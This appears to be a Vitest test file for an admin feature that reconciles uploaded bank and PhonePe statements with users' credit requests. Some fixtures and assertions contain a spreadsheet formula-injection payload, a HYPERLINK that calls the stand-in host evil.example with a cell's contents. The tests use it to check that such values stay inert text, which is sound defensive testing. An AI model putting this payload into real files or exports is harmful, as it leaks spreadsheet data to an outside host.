// Statement reconciliation (issue 34, decision 0114): the known exports read from samples that look like
// the real ones, the matching groups, the one-action approval through decideCreditRequest, a statement
// uploaded twice, every bad file, and admins only.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestApp } from '../../test/app.ts';
import { parseStatement } from './statement-formats.ts';
import { spreadsheetSafe, STATEMENT_LIMITS, STATEMENT_MESSAGES } from '../../../common/statements.ts';

const FIXTURES = join(import.meta.dirname, 'fixtures', 'statements');
const fixture = (name: string) => new Uint8Array(readFileSync(join(FIXTURES, name)));

let t: Awaited<ReturnType<typeof createTestApp>>;
let prisma: Awaited<ReturnType<typeof createTestApp>>['database']['prisma'];
let admin: Person;
let adminToken: string;

type Person = Awaited<ReturnType<typeof t.createUser>>;

const globalId = (type: string, id: number) => Buffer.from(`${type}:${id}`).toString('base64');
const codesOf = (body: { errors?: any[] }) => (body.errors ?? []).map((error) => error.extensions?.code);

const UPLOAD = /* GraphQL */ `
  mutation ($file: File, $format: CreditStatementFormat, $columns: CreditStatementColumnsInput) {
    uploadCreditStatement(file: $file, format: $format, columns: $columns) {
      __typename
      ... on Error {
        message
      }
      ... on MutationUploadCreditStatementSuccess {
        repeated
        creditStatement {
          id
          databaseId
          fileName
          format
          skippedRows
          lines {
            lineNumber
            utr
            amountPaise
            details
            group
            note
            approvedHere
            creditRequest {
              databaseId
              amount
              status
            }
          }
        }
      }
    }
  }
`;

const APPROVE = /* GraphQL */ `
  mutation ($id: ID!) {
    approveMatchedStatementLines(id: $id) {
      __typename
      ... on Error {
        message
      }
      ... on MutationApproveMatchedStatementLinesSuccess {
        approved
        refused
        creditStatement {
          lines {
            utr
            group
            note
            approvedHere
          }
        }
      }
    }
  }
`;

const STATEMENT = /* GraphQL */ `
  query ($id: ID!) {
    creditStatement(id: $id) {
      fileName
      csv
      lines {
        lineNumber
        group
        details
      }
    }
  }
`;

function upload(
  bytes: Uint8Array,
  options: { name?: string; format?: string; columns?: Record<string, string>; token?: string } = {},
) {
  return t.upload(
    UPLOAD,
    { file: null, format: options.format ?? null, columns: options.columns ?? null },
    { file: { name: options.name ?? 'statement.csv', type: 'text/csv', bytes } },
    options.token ?? adminToken,
  );
}

async function uploaded(bytes: Uint8Array, options: Parameters<typeof upload>[1] = {}) {
  const { body } = await upload(bytes, options);
  expect(body.errors).toBeUndefined();
  expect(body.data.uploadCreditStatement.__typename).toBe('MutationUploadCreditStatementSuccess');
  return body.data.uploadCreditStatement as {
    repeated: boolean;
    creditStatement: {
      id: string;
      databaseId: number;
      format: string;
      skippedRows: number;
      lines: Array<{
        lineNumber: number;
        utr: string | null;
        amountPaise: number;
        details: string;
        group: string;
        note: string;
        approvedHere: boolean;
        creditRequest: { databaseId: number; amount: number; status: string } | null;
      }>;
    };
  };
}

async function approve(id: string, token = adminToken) {
  return (await t.graphql(APPROVE, { id }, token)).body;
}

/** A credit request of `userId` with its UTR, as the credit form stores it. */
function request(userId: number, utr: string, amount: number, status: 'pending' | 'approved' = 'pending') {
  return prisma.creditRequest.create({ data: { userId, amount, utr, status } });
}

/** What a refused upload must leave as it was: statements, their lines, approvals, the ledger. */
async function snapshot() {
  return {
    statements: await prisma.creditStatement.count(),
    lines: await prisma.creditStatementLine.count(),
    approved: await prisma.creditRequest.count({ where: { status: 'approved' } }),
    ledger: await prisma.creditLedgerEntry.count(),
  };
}

beforeAll(async () => {
  t = await createTestApp();
  prisma = t.database.prisma;
  admin = await t.createUser({ role: 'admin' });
  adminToken = await t.tokenFor(admin);
  await prisma.creditScheme.create({ data: { id: 1, creditRate: 1, timePerCredit: 1 } });
});
afterAll(() => t.close());

// ---- the formats ----------------------------------------------------------------------------------

describe('reading the known exports', () => {
  it('reads an HDFC Bank statement: the UTR from the UPI narration, deposits only, the header lines and summary skipped', () => {
    const parsed = parseStatement(fixture('hdfc-account-statement.csv'), 'auto');
    expect(parsed.format).toBe('hdfc');
    expect(
      parsed.lines.map(({ lineNumber, utr, amountPaise, date }) => ({ lineNumber, utr, amountPaise, date })),
    ).toEqual([
      { lineNumber: 18, utr: '433112345601', amountPaise: 150000, date: '01/11/26' },
      { lineNumber: 19, utr: '433112345602', amountPaise: 99900, date: '02/11/26' },
      { lineNumber: 20, utr: '433112345603', amountPaise: 200000, date: '03/11/26' },
      { lineNumber: 21, utr: '433112345604', amountPaise: 50000, date: '04/11/26' },
      // a NEFT credit has no UPI reference
      { lineNumber: 23, utr: null, amountPaise: 500000, date: '06/11/26' },
      // no UTR in the narration: the zero-padded reference number holds it
      { lineNumber: 24, utr: '433112345606', amountPaise: 75000, date: '07/11/26' },
    ]);
    // the withdrawal (line 22), the asterisks, the blank line and the summary
    expect(parsed.skippedRows).toBe(7);
    expect(parsed.lines[5]!.details).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Refund due")');
  });

  it("reads SBI's tab-separated download: credits with UPI/CR references, the debit skipped", () => {
    const parsed = parseStatement(fixture('sbi-account-statement.tsv'), 'auto');
    expect(parsed.format).toBe('sbi');
    expect(parsed.lines.map(({ utr, amountPaise, date }) => ({ utr, amountPaise, date }))).toEqual([
      { utr: '433212345601', amountPaise: 150000, date: '1 Nov 2026' },
      { utr: '433212345603', amountPaise: 300050, date: '3 Nov 2026' },
      { utr: '433212345604', amountPaise: 25000, date: '4 Nov 2026' },
    ]);
    expect(parsed.lines[0]!.details).toContain('UPI/CR/433212345601/PRIYA K');
  });

  it('reads a PhonePe Business settlement report: payments by BankReferenceNo, refunds skipped', () => {
    const parsed = parseStatement(fixture('phonepe-settlement-report.csv'), 'phonepe');
    expect(parsed.format).toBe('phonepe');
    expect(parsed.lines.map(({ utr, amountPaise, details }) => ({ utr, amountPaise, details }))).toEqual([
      { utr: '433312345601', amountPaise: 150000, details: 'rahul.s@ybl' },
      { utr: '433312345602', amountPaise: 250000, details: '9876543210@ibl' },
      { utr: '433312345604', amountPaise: 100000, details: '+919812345678@axl' },
    ]);
    expect(parsed.skippedRows).toBe(1);
  });

  it('reads any other export by the columns the admin names', () => {
    const parsed = parseStatement(fixture('generic-paytm-business.csv'), 'generic', {
      utr: 'UTR No.',
      amount: 'Amount Received',
      date: 'Date',
      narration: 'Customer VPA',
    });
    expect(parsed.format).toBe('generic');
    expect(parsed.lines.map(({ utr, amountPaise, date }) => ({ utr, amountPaise, date }))).toEqual([
      { utr: '433412345601', amountPaise: 120000, date: '01-11-2026 10:15' },
      { utr: '433412345602', amountPaise: 45000, date: '02-11-2026 12:00' },
    ]);
    // a narration alone is enough: its 12-digit number is the UTR
    const byNarration = parseStatement(fixture('hdfc-account-statement.csv'), 'generic', {
      narration: 'Narration',
      amount: 'Deposit Amt.',
    });
    expect(byNarration.lines[0]).toMatchObject({ utr: '433112345601', amountPaise: 150000 });
  });

  it('names the missing columns when the file is not the format chosen', () => {
    expect(() => parseStatement(fixture('phonepe-settlement-report.csv'), 'hdfc')).toThrow(
      STATEMENT_MESSAGES.missingColumns('HDFC Bank account statement', ['Narration', 'Deposit Amt.']),
    );
    expect(() => parseStatement(fixture('generic-paytm-business.csv'), 'auto')).toThrow(
      STATEMENT_MESSAGES.unknownColumns,
    );
    expect(() =>
      parseStatement(fixture('generic-paytm-business.csv'), 'generic', { utr: 'UTR', amount: 'Amount Received' }),
    ).toThrow('No line of this file has the column you named: "UTR".');
    expect(() =>
      parseStatement(fixture('generic-paytm-business.csv'), 'generic', { amount: 'Amount Received' }),
    ).toThrow(STATEMENT_MESSAGES.mappingRequired);
  });

  it('makes every formula-like cell text for a spreadsheet', () => {
    expect(['=HYPERLINK("x")', '+91 98', '-5', '@SUM(A1)', '\t=1', 'UPI-RAHUL'].map(spreadsheetSafe)).toEqual([
      `'=HYPERLINK("x")`,
      `'+91 98`,
      `'-5`,
      `'@SUM(A1)`,
      `'\t=1`,
      'UPI-RAHUL',
    ]);
  });
});

// ---- matching and approving -----------------------------------------------------------------------

describe('matching an HDFC statement and approving the matched', () => {
  let owner: Person;
  let other: Person;
  const requests: Record<string, number> = {};

  beforeAll(async () => {
    owner = await t.createUser();
    other = await t.createUser();
    requests.matched = (await request(owner.id, '433112345601', 1500)).id;
    requests.mismatched = (await request(owner.id, '433112345602', 1000)).id;
    requests.decided = (await request(other.id, '433112345604', 500, 'approved')).id;
    // the debit line's UTR: money going out never approves anything
    requests.debit = (await request(other.id, '433112345605', 200)).id;
    requests.formula = (await request(other.id, '433112345606', 750)).id;
  });

  it('puts each credit in its group, approves only the matched ones, each as the admin screen would', async () => {
    const mark = t.mailer.sent.length;
    const { repeated, creditStatement } = await uploaded(fixture('hdfc-account-statement.csv'), {
      name: 'Acct_Statement_XX6789_27112026.csv',
    });
    expect(repeated).toBe(false);
    expect(creditStatement.format).toBe('hdfc');
    expect(creditStatement.lines.map(({ utr, group, note }) => ({ utr, group, note }))).toEqual([
      { utr: '433112345601', group: 'matched', note: 'UTR and amount match a pending request.' },
      { utr: '433112345602', group: 'mismatched', note: 'Received ₹999; the request asks for ₹1,000.' },
      { utr: '433112345603', group: 'unmatched', note: 'No credit request has this UTR.' },
      { utr: '433112345604', group: 'decided', note: 'The request was already approved.' },
      { utr: null, group: 'unmatched', note: 'No UTR on this line.' },
      { utr: '433112345606', group: 'matched', note: 'UTR and amount match a pending request.' },
    ]);
    // the formula is kept as the file wrote it: text, never evaluated
    expect(creditStatement.lines[5]!.details).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Refund due")');
    // uploading approves nothing
    expect(await prisma.creditRequest.count({ where: { id: requests.matched, status: 'pending' } })).toBe(1);
    expect(t.mailer.sent.length).toBe(mark);

    const body = await approve(creditStatement.id);
    expect(body.data.approveMatchedStatementLines).toMatchObject({ approved: 2, refused: 0 });
    const groups = body.data.approveMatchedStatementLines.creditStatement.lines.map(
      ({ utr, group, approvedHere }: { utr: string; group: string; approvedHere: boolean }) => [
        utr,
        group,
        approvedHere,
      ],
    );
    expect(groups).toEqual([
      ['433112345601', 'decided', true],
      ['433112345602', 'mismatched', false],
      ['433112345603', 'unmatched', false],
      ['433112345604', 'decided', false],
      [null, 'unmatched', false],
      ['433112345606', 'decided', true],
    ]);

    const status = async (id: number) =>
      prisma.creditRequest.findUniqueOrThrow({
        where: { id },
        select: { status: true, creditsAdded: true, decidedById: true },
      });
    expect(await status(requests.matched!)).toEqual({ status: 'approved', creditsAdded: 1500, decidedById: admin.id });
    expect(await status(requests.formula!)).toEqual({ status: 'approved', creditsAdded: 750, decidedById: admin.id });
    // a mismatched amount is left for the admin to approve with a reason; a debit approves nothing
    expect((await status(requests.mismatched!)).status).toBe('pending');
    expect((await status(requests.debit!)).status).toBe('pending');
    // the one approval path: ledger lines, audit entries by the admin, the approval mails
    expect((await prisma.user.findUniqueOrThrow({ where: { id: owner.id } })).credits).toBe(1500);
    expect(
      await prisma.creditLedgerEntry.count({
        where: { creditRequestId: { in: [requests.matched!, requests.formula!] } },
      }),
    ).toBe(2);
    const audits = await prisma.auditEntry.findMany({
      where: { subjectType: 'CreditRequest', subjectId: { in: [requests.matched!, requests.formula!] } },
    });
    expect(audits.map((entry) => [entry.action, entry.actorId])).toEqual([
      ['creditRequest.decide', admin.id],
      ['creditRequest.decide', admin.id],
    ]);
    const mailed = t.mailer.sent.slice(mark).map((mail) => mail.to);
    expect(mailed.sort()).toEqual([owner.email, other.email].sort());
  });

  it('approves nothing twice: the same file again is the same statement, and a second pass finds them decided', async () => {
    const before = await snapshot();
    const mark = t.mailer.sent.length;
    const again = await uploaded(fixture('hdfc-account-statement.csv'));
    expect(again.repeated).toBe(true);
    expect(await snapshot()).toEqual(before);
    const body = await approve(again.creditStatement.id);
    expect(body.data.approveMatchedStatementLines).toMatchObject({ approved: 0, refused: 0 });

    // the same credits in another file (another hash): a new statement whose lines are already decided
    const copy = new Uint8Array([...fixture('hdfc-account-statement.csv'), ...new TextEncoder().encode('\n')]);
    const other = await uploaded(copy);
    expect(other.repeated).toBe(false);
    expect(other.creditStatement.lines.filter((line) => line.group === 'matched')).toEqual([]);
    expect((await approve(other.creditStatement.id)).data.approveMatchedStatementLines).toMatchObject({ approved: 0 });
    expect((await prisma.user.findUniqueOrThrow({ where: { id: owner.id } })).credits).toBe(1500);
    expect(await prisma.creditRequest.count({ where: { status: 'approved' } })).toBe(before.approved);
    expect(await prisma.creditLedgerEntry.count()).toBe(before.ledger);
    expect(t.mailer.sent.length).toBe(mark);
  });

  it('keeps the lines and their results to come back to, and exports them with formulas made text', async () => {
    const statement = await prisma.creditStatement.findFirstOrThrow({
      where: { fileName: 'Acct_Statement_XX6789_27112026.csv' },
    });
    const { body } = await t.graphql(STATEMENT, { id: globalId('CreditStatement', statement.id) }, adminToken);
    expect(body.data.creditStatement.lines.map((line: { group: string }) => line.group)).toEqual([
      'decided',
      'mismatched',
      'unmatched',
      'decided',
      'unmatched',
      'decided',
    ]);
    const csv: string = body.data.creditStatement.csv;
    expect(csv.split('\n')[0]).toBe(
      '"Line","Date","UTR","Amount (₹)","Details","Result","Request","Requested (₹)","Note"',
    );
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund due"")"`);
    expect(csv).not.toMatch(/(^|,)"[=+\-@]/m);
    expect(csv).toContain('"433112345602","999.00"');
  });

  it('records a refused approval on its line (no credit scheme), and approves the line later', async () => {
    const payer = await t.createUser();
    const pending = await request(payer.id, '433312345601', 1500);
    const statement = await uploaded(fixture('phonepe-settlement-report.csv'));
    expect(statement.creditStatement.lines[0]).toMatchObject({ group: 'matched' });
    await prisma.creditScheme.delete({ where: { id: 1 } });
    try {
      const body = await approve(statement.creditStatement.id);
      expect(body.data.approveMatchedStatementLines).toMatchObject({ approved: 0, refused: 1 });
      expect(body.data.approveMatchedStatementLines.creditStatement.lines[0]).toMatchObject({
        group: 'matched',
        note: 'Set a credit scheme before approving credit requests.',
      });
    } finally {
      await prisma.creditScheme.create({ data: { id: 1, creditRate: 1, timePerCredit: 1 } });
    }
    expect((await approve(statement.creditStatement.id)).data.approveMatchedStatementLines).toMatchObject({
      approved: 1,
    });
    expect((await prisma.creditRequest.findUniqueOrThrow({ where: { id: pending.id } })).status).toBe('approved');
  });
});

// ---- bad input ------------------------------------------------------------------------------------

describe('bad statements are refused with a message, and nothing is stored or approved', () => {
  let before: Awaited<ReturnType<typeof snapshot>>;
  beforeEach(async () => {
    before = await snapshot();
  });

  async function refused(bytes: Uint8Array, options: Parameters<typeof upload>[1] = {}) {
    const { body } = await upload(bytes, options);
    expect(await snapshot()).toEqual(before);
    return body.data?.uploadCreditStatement ?? body.errors;
  }

  it('a file over 2 MB', async () => {
    const line = '01/11/26,UPI-RAHUL-rahul@ok-ICIC0001234-433199999999-X,0000433199999999,01/11/26,,1.00,1.00\n';
    const big = new TextEncoder().encode(line.repeat(Math.ceil((STATEMENT_LIMITS.maxBytes + 1) / line.length)));
    expect(await refused(big)).toEqual({ __typename: 'TooLargeError', message: STATEMENT_MESSAGES.tooLarge });
  });

  it('a 50 MB file', async () => {
    const huge = new Uint8Array(50 * 1024 * 1024).fill(0x41);
    expect(await refused(huge)).toEqual({ __typename: 'TooLargeError', message: STATEMENT_MESSAGES.tooLarge });
  });

  it('a binary file, a workbook and a PDF', async () => {
    const png = new Uint8Array(
      await sharp({ create: { width: 8, height: 8, channels: 3, background: '#ffffff' } })
        .png()
        .toBuffer(),
    );
    expect(await refused(png, { name: 'statement.csv' })).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.notText,
    });
    const xlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]);
    expect(await refused(xlsx, { name: 'statement.xlsx' })).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.workbook,
    });
    const pdf = new TextEncoder().encode('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n');
    expect(await refused(pdf)).toEqual({ __typename: 'ValidationError', message: STATEMENT_MESSAGES.pdf });
    expect(await refused(new Uint8Array(0))).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.empty,
    });
  });

  it('wrong columns, named', async () => {
    // a copy (the file itself was uploaded above, and the same file is answered as that statement)
    const phonepe = new Uint8Array([...fixture('phonepe-settlement-report.csv'), 0x0a]);
    expect(await refused(phonepe, { format: 'sbi' })).toEqual({
      __typename: 'ValidationError',
      message: 'This is not an SBI account statement: no line of it has the columns "Description", "Credit", "Debit".',
    });
    expect(await refused(new TextEncoder().encode('Name,Phone\nRahul,9876543210\n'))).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.unknownColumns,
    });
    expect(
      await refused(fixture('generic-paytm-business.csv'), { format: 'generic', columns: { utr: 'UTR No.' } }),
    ).toEqual({ __typename: 'ValidationError', message: STATEMENT_MESSAGES.mappingRequired });
  });

  it('too many lines', async () => {
    const rows = ['PaymentType,From,Amount,BankReferenceNo'];
    for (let index = 0; index < STATEMENT_LIMITS.maxRows; index += 1)
      rows.push(`PAYMENT,payer${index}@ybl,100.00,${String(500000000000 + index)}`);
    expect(await refused(new TextEncoder().encode(rows.join('\n')))).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.tooManyRows,
    });
  });

  it('a quote never closed, and a file with no credits', async () => {
    const broken =
      'PaymentType,From,Amount,BankReferenceNo\nPAYMENT,"payer@ybl,100.00,433512345601\n' + 'x,'.repeat(5000);
    expect(await refused(new TextEncoder().encode(broken))).toMatchObject({
      __typename: 'ValidationError',
      message: expect.stringMatching(/^This file could not be read as CSV near line \d+/),
    });
    const refunds = 'PaymentType,From,Amount,BankReferenceNo\nREFUND,payer@ybl,-100.00,433512345601\n';
    expect(await refused(new TextEncoder().encode(refunds))).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.noCredits,
    });
  });

  it('no file', async () => {
    const { body } = await t.graphql(UPLOAD, { file: null }, adminToken);
    expect(body.data.uploadCreditStatement).toEqual({
      __typename: 'ValidationError',
      message: STATEMENT_MESSAGES.fileRequired,
    });
  });
});

// ---- who may ------------------------------------------------------------------------------------

describe('admins only', () => {
  it('refuses advertisers, moderators and visitors; nothing is stored or approved', async () => {
    const statement = await prisma.creditStatement.findFirstOrThrow();
    const before = await snapshot();
    const moderatorToken = await t.tokenFor(await t.createUser({ role: 'moderator' }));
    const advertiserToken = await t.tokenFor(await t.createUser());
    const file = new TextEncoder().encode(
      'PaymentType,From,Amount,BankReferenceNo\nPAYMENT,p@ybl,100.00,433612345601\n',
    );
    for (const token of [moderatorToken, advertiserToken]) {
      expect(codesOf((await upload(file, { token })).body)).toEqual(['FORBIDDEN']);
      expect(codesOf(await approve(globalId('CreditStatement', statement.id), token))).toEqual(['FORBIDDEN']);
    }
    const anonymous = await t.upload(
      UPLOAD,
      { file: null },
      { file: { name: 's.csv', type: 'text/csv', bytes: file } },
    );
    expect(anonymous.status).toBe(401);
    expect(await snapshot()).toEqual(before);
  });
});
